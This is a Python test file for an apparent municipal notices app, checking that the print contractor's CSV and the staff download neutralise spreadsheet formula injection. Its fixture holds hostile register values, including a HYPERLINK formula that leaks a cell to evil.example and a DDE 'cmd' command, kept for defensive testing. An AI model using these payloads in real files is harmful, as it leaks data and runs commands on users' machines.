"""The print contractor's letters.csv never carries a live formula from the
register: from `madoguchi notices print` and from the staff download alike."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from madoguchi.cli.main import main
from madoguchi.counter.models import Resident
from madoguchi.notices.services.batch import run_batch
from tests.staff.conftest import clerk_client, make_staff  # noqa: F401 - fixtures

DAY = date(2027, 4, 8)
# (family name, given name, address) as a hostile or careless register could hold them
HOSTILE = [
    ('=HYPERLINK("https://evil.example/?leak="&B2,"詳細")', "太郎", "=cmd|' /C calc'!A0"),
    ("+SUM(1,2)", "花子", "-1+1"),
    ("@SUM(A1:A9)", "一郎", "\t=1+1"),
]


@pytest.fixture
def hostile_letters(make_card):
    for family, given, address in HOSTILE:
        card = make_card(expires=date(2030, 1, 10), cert_expires=date(2027, 7, 7))
        Resident.objects.filter(pk=card.resident_id).update(family_name=family, given_name=given, address=address)
    run_batch(DAY)


def assert_no_live_formula(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    names = sorted(r["name"] for r in rows)
    assert names == sorted(f"'{family} {given}" for family, given, _ in HOSTILE)  # kept whole, as text
    assert any(r["postal_address"].startswith("'=cmd|") for r in rows)


@pytest.mark.django_db
def test_notices_print_writes_a_csv_without_live_formulas(hostile_letters, tmp_path, capsys):
    assert main(["notices", "print", "--date", DAY.isoformat(), "--out", str(tmp_path)]) == 0
    assert_no_live_formula((tmp_path / f"letters-{DAY.isoformat()}.csv").read_text(encoding="utf-8-sig"))


@pytest.mark.django_db
def test_the_staff_download_is_the_same_neutralised_csv(hostile_letters, clerk_client):
    response = clerk_client.get(f"/staff/notices/letters.csv?date={DAY.isoformat()}")
    assert response["Content-Type"].startswith("text/csv")
    assert_no_live_formula(response.content.decode("utf-8-sig"))
